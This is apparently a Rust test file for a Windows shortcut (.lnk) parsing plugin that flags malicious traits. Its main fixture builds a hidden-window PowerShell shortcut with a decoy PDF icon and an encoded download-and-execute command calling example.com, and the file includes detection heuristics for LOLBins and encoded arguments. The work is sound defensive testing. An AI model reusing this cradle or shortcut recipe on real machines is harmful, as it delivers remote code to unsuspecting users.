//! Shortcuts written here by a small MS-SHLLINK writer, run through [`PluginTest`] as the host
//! runs the plugin. The values were checked with LnkParse3 1.6.0 (`lnkparse -j FILE`) on the
//! same bytes (`STOQ_GOLDEN_SAMPLES=DIR cargo test -p stoq-plugin-lnk` writes them out).

use std::time::{Duration, Instant};

use stoq_plugin_abi::testing::{PluginTest, TestError, golden};

use super::*;
use stoq_tests::formats::lnk::{
    MARCH_2024, Shortcut, block, environment_block, file_item, filetime_of, guid_bytes, link_info,
    my_computer, root_item, tracker_block, uuid_v1, volume_item,
};
use stoq_tests::response::{messages, results};

const PAYLOAD: &str = "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AZQB4AGEAbQBwAGwAZQAuAGMAbwBtAC8AYQAnACkA";

/// The classic: powershell.exe with a hidden window and an encoded command, a tracker block
/// naming the machine it was made on, minimised, CTRL+ALT+P.
fn powershell_shortcut() -> Vec<u8> {
    let droid_volume = guid_bytes(0x1234_5678, 0x9abc, 0xdef0, [1, 2, 3, 4, 5, 6, 7, 8]);
    let droid_file = uuid_v1(MARCH_2024, [0x00, 0x0c, 0x29, 0xaa, 0xbb, 0xcc]);
    Shortcut {
        attributes: 0x20,
        show: 7,
        hotkey: 0x0650,
        file_size: 452_608,
        id_list: Some(vec![
            root_item(my_computer()),
            volume_item("C:\\"),
            file_item(true, "Windows", "Windows", 0),
            file_item(true, "System32", "System32", 0),
            file_item(true, "WINDOW~1", "WindowsPowerShell", 0),
            file_item(true, "v1.0", "v1.0", 0),
            file_item(false, "POWERS~1.EXE", "powershell.exe", 452_608),
        ]),
        link_info: Some(link_info(
            Some((
                "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
                "OS",
                0x1234_abcd,
            )),
            None,
            "",
        )),
        unicode: true,
        relative_path: Some(
            "..\\..\\..\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe".into(),
        ),
        working_dir: Some("%TEMP%".into()),
        arguments: Some(format!("-nop -w hidden -enc {PAYLOAD}")),
        icon_location: Some(
            "%ProgramFiles(x86)%\\Microsoft\\Edge\\Application\\invoice.pdf".into(),
        ),
        blocks: vec![
            environment_block("%windir%\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"),
            tracker_block("desktop-7h1s", droid_volume, droid_file),
            block(0xa000_0009, &[0; 4]),
            block(
                0xa000_000b,
                &[
                    &guid_bytes(
                        0x1ac1_4e77,
                        0x02e7,
                        0x4e5d,
                        [0xb7, 0x44, 0x2e, 0xb1, 0xae, 0x51, 0x98, 0xb7],
                    )[..],
                    &0x9fu32.to_le_bytes()[..],
                ]
                .concat(),
            ),
            block(
                0xa000_0005,
                &[&37u32.to_le_bytes()[..], &0xddu32.to_le_bytes()[..]].concat(),
            ),
        ],
        ..Default::default()
    }
    .build()
}

/// A shortcut to a file on a network share (LinkInfo only), ANSI strings.
fn network_shortcut() -> Vec<u8> {
    Shortcut {
        show: 1,
        link_info: Some(link_info(
            None,
            Some(("\\\\FILESRV\\Finance", "Z:")),
            "Q3\\report.xlsx",
        )),
        name: Some("Quarterly report".into()),
        working_dir: Some("\\\\FILESRV\\Finance\\Q3".into()),
        ..Default::default()
    }
    .build()
}

/// Unicode strings beyond ASCII.
fn unicode_shortcut() -> Vec<u8> {
    Shortcut {
        show: 3,
        id_list: Some(vec![
            root_item(my_computer()),
            volume_item("D:\\"),
            file_item(false, "OTCHT~1.TXT", "Отчёт 2024 ✓.txt", 12),
        ]),
        unicode: true,
        name: Some("Отчёт за 2024 год ✓".into()),
        arguments: Some("/открыть «быстро»".into()),
        ..Default::default()
    }
    .build()
}

/// `s` in the results' encoding (a backslash doubled).
fn enc(s: &str) -> String {
    stoq_plugin_abi::bytes_to_string(s.as_bytes())
}

fn scan(data: &[u8]) -> WorkerResponse {
    PluginTest::<Lnk>::new().scan(data).expect("lnk scans")
}

fn survives(data: &[u8]) -> Result<WorkerResponse, TestError> {
    let start = Instant::now();
    let outcome = PluginTest::<Lnk>::new().scan(data);
    assert!(
        !matches!(outcome, Err(TestError::Panicked(_) | TestError::Invalid(_))),
        "{outcome:?}"
    );
    assert!(start.elapsed() < Duration::from_secs(1));
    outcome
}

#[test]
fn a_hidden_powershell_shortcut_is_described_and_flagged() {
    let response = scan(&powershell_shortcut());
    assert!(response.errors.is_empty(), "{:?}", response.errors);
    let r = results(&response);
    let h = &r["header"];
    assert_eq!(
        h["flags"],
        json!([
            "has_link_target_id_list",
            "has_link_info",
            "has_relative_path",
            "has_working_dir",
            "has_arguments",
            "has_icon_location",
            "is_unicode"
        ])
    );
    assert_eq!(h["file_attributes"], json!(["ARCHIVE"]));
    assert_eq!(h["creation_time"], "2024-03-01T12:00:00Z");
    assert_eq!(h["access_time"], "2024-03-01T13:00:00Z");
    assert_eq!(h["write_time"], "2024-03-01T14:00:00Z");
    assert_eq!(h["file_size"], 452_608);
    assert_eq!(h["show_command"], "SW_SHOWMINNOACTIVE");
    assert_eq!(h["hotkey"], "CTRL+ALT+P");
    assert_eq!(r["flags"]["has_arguments"], true);
    assert_eq!(r["flags"]["has_name"], false);
    let items = &r["target_id_list"]["items"];
    assert_eq!(
        items[0],
        json!({"type": "root", "clsid": "20D04FE0-3AEA-1069-A2D8-08002B30309D", "name": "My Computer"})
    );
    assert_eq!(items[1], json!({"type": "volume", "name": enc("C:\\")}));
    assert_eq!(items[4]["short_name"], "WINDOW~1");
    assert_eq!(items[4]["name"], "WindowsPowerShell");
    assert_eq!(items[6]["type"], "file");
    assert_eq!(items[6]["size"], 452_608);
    let path = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe";
    let path = enc(path);
    assert_eq!(r["target_id_list"]["path"], path);
    assert_eq!(r["target_path"], path);
    let info = &r["link_info"];
    assert_eq!(info["local_base_path"], path);
    assert_eq!(
        info["volume"],
        json!({"drive_type": "DRIVE_FIXED", "drive_serial_number": "1234-ABCD", "volume_label": "OS"})
    );
    let s = &r["string_data"];
    assert_eq!(s["working_dir"], "%TEMP%");
    assert_eq!(s["arguments"], format!("-nop -w hidden -enc {PAYLOAD}"));
    assert_eq!(
        r["encoded_command"],
        "IEX (New-Object Net.WebClient).DownloadString('http://example.com/a')"
    );
    let blocks = r["extra_data"].as_array().unwrap();
    let kinds: Vec<&str> = blocks
        .iter()
        .map(|b| b["block"].as_str().unwrap())
        .collect();
    assert_eq!(
        kinds,
        [
            "EnvironmentVariableDataBlock",
            "TrackerDataBlock",
            "PropertyStoreDataBlock",
            "KnownFolderDataBlock",
            "SpecialFolderDataBlock"
        ]
    );
    assert_eq!(
        blocks[0]["target"],
        enc("%windir%\\System32\\WindowsPowerShell\\v1.0\\powershell.exe")
    );
    let tracker = &blocks[1];
    assert_eq!(tracker["machine_id"], "desktop-7h1s");
    assert_eq!(
        tracker["droid_volume_id"],
        "12345678-9ABC-DEF0-0102-030405060708"
    );
    assert_eq!(tracker["mac_address"], "00:0c:29:aa:bb:cc");
    assert_eq!(tracker["droid_time"], "2024-03-01T12:00:00Z");
    assert_eq!(blocks[2]["size"], 12);
    assert_eq!(
        blocks[3]["known_folder_id"],
        "1AC14E77-02E7-4E5D-B744-2EB1AE5198B7"
    );
    assert_eq!(blocks[4]["special_folder_id"], 37);
    assert_eq!(
        r["suspicious"],
        json!([
            "target is a script host or LOLBin: powershell.exe",
            "arguments contain -enc (encoded command)",
            "arguments ask for a hidden window",
            "encoded command contains http",
            "encoded command contains DownloadString",
            "encoded command contains iex",
            "show command SW_SHOWMINNOACTIVE (window minimised, not activated)",
            format!(
                "document icon ({}) on a script host target",
                enc("%programfiles(x86)%\\microsoft\\edge\\application\\invoice.pdf")
            ),
        ])
    );
}

#[test]
fn a_network_shortcut_names_its_share() {
    let response = scan(&network_shortcut());
    assert!(response.errors.is_empty(), "{:?}", response.errors);
    let r = results(&response);
    assert_eq!(
        r["link_info"]["network"],
        json!({"net_name": enc("\\\\FILESRV\\Finance"), "device_name": "Z:", "provider_type": "WNNC_NET_LANMAN"})
    );
    assert_eq!(r["link_info"]["common_path_suffix"], enc("Q3\\report.xlsx"));
    assert_eq!(
        r["target_path"],
        enc("\\\\FILESRV\\Finance\\Q3\\report.xlsx")
    );
    assert_eq!(r["string_data"]["name"], "Quarterly report");
    assert_eq!(r["flags"]["is_unicode"], false);
    assert_eq!(r["header"]["show_command"], "SW_SHOWNORMAL");
    assert_eq!(r["header"]["hotkey"], Value::Null);
    assert_eq!(r["suspicious"], json!([]));
}

#[test]
fn unicode_strings_and_long_names_are_decoded() {
    let response = scan(&unicode_shortcut());
    assert!(response.errors.is_empty(), "{:?}", response.errors);
    let r = results(&response);
    assert_eq!(r["string_data"]["name"], "Отчёт за 2024 год ✓");
    assert_eq!(r["string_data"]["arguments"], "/открыть «быстро»");
    assert_eq!(r["target_path"], enc("D:\\Отчёт 2024 ✓.txt"));
    assert_eq!(r["header"]["show_command"], "SW_SHOWMAXIMIZED");
}

#[test]
fn suspicious_traits_are_named() {
    let long = format!("/c {}start http://x", " ".repeat(300));
    assert_eq!(
        suspicious(
            &["C:\\Windows\\System32\\cmd.exe".into()],
            Some(&long),
            1,
            None
        ),
        [
            "target is a script host or LOLBin: cmd.exe",
            "arguments longer than 260 characters (317)",
            "arguments padded with whitespace",
            "arguments contain http",
        ]
    );
    assert_eq!(
        suspicious(
            &["mshta.exe".into()],
            Some("[System.Convert]::FromBase64String('aGk=')"),
            0,
            None
        ),
        [
            "target is a script host or LOLBin: mshta.exe",
            "arguments contain FromBase64String",
            "show command SW_HIDE (0)",
        ]
    );
    assert_eq!(
        suspicious(&["C:\\tools\\notepad.exe".into()], Some("a.txt"), 1, None),
        Vec::<String>::new()
    );
}

#[test]
fn network_providers_are_named_as_winnetwk_h_names_them() {
    // LnkParse3 1.6.0 names 0x00020000 WNNC_NET_DECORB: its table drops a zero from every
    // value (MS-SHLLINK gives WNNC_NET_DECORB as 0x00200000).
    assert_eq!(provider_name(0x0002_0000), "WNNC_NET_LANMAN");
    assert_eq!(provider_name(0x0020_0000), "WNNC_NET_DECORB");
    assert_eq!(provider_name(0x002e_0000), "WNNC_NET_DAV");
    assert_eq!(provider_name(0x0043_0000), "WNNC_NET_GOOGLE");
    assert_eq!(provider_name(0x0028_0000), "0x00280000");
    assert_eq!(provider_name(0x0002_0001), "0x00020001");
}

#[test]
fn filetimes_are_iso_8601_utc() {
    assert_eq!(filetime(0), None);
    assert_eq!(
        filetime(filetime_of(0)).as_deref(),
        Some("1970-01-01T00:00:00Z")
    );
    assert_eq!(filetime(1).as_deref(), Some("1601-01-01T00:00:00Z"));
    assert_eq!(
        filetime(filetime_of(MARCH_2024) + 12_345_670).as_deref(),
        Some("2024-03-01T12:00:01.234567Z")
    );
    assert_eq!(
        filetime(u64::MAX).as_deref(),
        Some("60056-05-28T05:36:10.955161Z")
    );
}

#[test]
fn truncated_shortcuts_are_errors_not_panics() {
    for sample in [
        powershell_shortcut(),
        network_shortcut(),
        unicode_shortcut(),
    ] {
        for cut in 0..sample.len() {
            let outcome = survives(&sample[..cut]);
            if cut < HEADER_SIZE {
                assert!(
                    matches!(outcome, Err(TestError::Failed(m)) if m.starts_with("not a shortcut"))
                );
            } else if cut < sample.len() {
                assert!(!outcome.unwrap().errors.is_empty(), "cut at {cut}");
            }
        }
        for at in HEADER_SIZE..sample.len() {
            let mut broken = sample.clone();
            broken[at] ^= 0xff;
            let _ = survives(&broken);
        }
    }
    let mut not_lnk = network_shortcut();
    not_lnk[4] ^= 1;
    assert!(
        matches!(survives(&not_lnk), Err(TestError::Failed(m)) if m.starts_with("not a shortcut: no ShellLinkHeader"))
    );
}

#[test]
fn hostile_lengths_and_loops_are_bounded() {
    // A string of 65,535 characters past the end of the file.
    let mut strings = network_shortcut();
    let name_at =
        strings.len() - 4 - (2 + "\\\\FILESRV\\Finance\\Q3".len()) - (2 + "Quarterly report".len());
    strings[name_at..name_at + 2].copy_from_slice(&0xffffu16.to_le_bytes());
    let response = survives(&strings).unwrap();
    assert_eq!(
        messages(&response),
        [format!(
            "StringData name: 65535 characters at offset 0x{:x} run past the end of the file ({} bytes)",
            name_at + 2,
            strings.len()
        )]
    );
    // Extra data blocks of size 2^32 - 1, and of size 0 (the terminal block).
    let mut sized = powershell_shortcut();
    let first_block = sized
        .windows(4)
        .position(|w| w == 0xa000_0001u32.to_le_bytes())
        .unwrap()
        - 4;
    sized[first_block + 0x314..first_block + 0x318].copy_from_slice(&u32::MAX.to_le_bytes());
    let response = survives(&sized).unwrap();
    assert_eq!(
        messages(&response),
        [format!(
            "ExtraData: block at offset 0x{:x} declares 4294967295 bytes, past the end of the file ({} bytes)",
            first_block + 0x314,
            sized.len()
        )]
    );
    assert_eq!(
        results(&response)["extra_data"].as_array().unwrap().len(),
        1
    );
    sized[first_block + 0x314..first_block + 0x318].copy_from_slice(&0u32.to_le_bytes());
    let response = survives(&sized).unwrap();
    assert!(response.errors.is_empty());
    assert_eq!(
        results(&response)["extra_data"].as_array().unwrap().len(),
        1
    );
    // An ID list item of size 1 (it would never advance) and one of size 0 before the end.
    let mut looping = powershell_shortcut();
    looping[HEADER_SIZE + 2..HEADER_SIZE + 4].copy_from_slice(&1u16.to_le_bytes());
    let response = survives(&looping).unwrap();
    assert_eq!(
        messages(&response),
        ["LinkTargetIDList: item 0 at offset 0x4e has size 1 (at least 3 needed)"]
    );
    // The rest of the file is still read: the ID list's size says where it ends.
    assert_eq!(results(&response)["string_data"]["working_dir"], "%TEMP%");
    // An ID list of 20,000 tiny items: bounded at MAX_ID_ITEMS.
    let mut many = Shortcut {
        id_list: Some(vec![vec![3, 0, 0x99]; 20_000]),
        ..Default::default()
    }
    .build();
    // (The 16-bit ID list size wraps: write the real one.)
    let size = 20_000 * 3 + 2;
    many[HEADER_SIZE..HEADER_SIZE + 2].copy_from_slice(&(size as u16).to_le_bytes());
    let response = survives(&many).unwrap();
    assert!(
        messages(&response)
            .iter()
            .any(|m| m.contains("LinkTargetIDList")),
        "{:?}",
        response.errors
    );
    let small = Shortcut {
        id_list: Some(vec![vec![3, 0, 0x99]; 1_500]),
        ..Default::default()
    }
    .build();
    let response = survives(&small).unwrap();
    assert_eq!(
        messages(&response),
        ["LinkTargetIDList: more than 1000 items; the rest are not read"]
    );
    // LinkInfo of 2^32 - 1 bytes, and offsets inside it pointing outside it.
    let mut info = network_shortcut();
    info[HEADER_SIZE..HEADER_SIZE + 4].copy_from_slice(&u32::MAX.to_le_bytes());
    let response = survives(&info).unwrap();
    assert!(
        messages(&response)[0].starts_with(
            "LinkInfo: its 4294967295 bytes at offset 0x4c run past the end of the file"
        )
    );
    let mut offsets = network_shortcut();
    offsets[HEADER_SIZE + 20..HEADER_SIZE + 24].copy_from_slice(&0xffffu32.to_le_bytes());
    offsets[HEADER_SIZE + 24..HEADER_SIZE + 28].copy_from_slice(&0xffffu32.to_le_bytes());
    let response = survives(&offsets).unwrap();
    assert!(
        messages(&response)[0]
            .starts_with("LinkInfo: CommonNetworkRelativeLink offset 0xffff is outside")
    );
    assert_eq!(
        results(&response)["string_data"]["name"],
        "Quarterly report"
    );
}

/// The whole answer on each sample. After an intended change, regenerate and review:
/// `STOQ_UPDATE_GOLDEN=1 cargo test -p stoq-plugin-lnk golden`.
#[test]
fn golden_files() {
    let test = PluginTest::<Lnk>::new();
    let cases: Vec<(String, Value)> = [
        ("powershell_hidden.lnk", powershell_shortcut()),
        ("network_share.lnk", network_shortcut()),
        ("unicode.lnk", unicode_shortcut()),
    ]
    .iter()
    .map(|(name, data)| {
        golden::dump_sample(name, data);
        (
            format!("{name}.json"),
            golden::worker_output(&test.scan(data), |b| b.len().to_string()),
        )
    })
    .collect();
    golden::check(
        &std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/golden"),
        env!("CARGO_PKG_NAME"),
        &cases,
    );
}
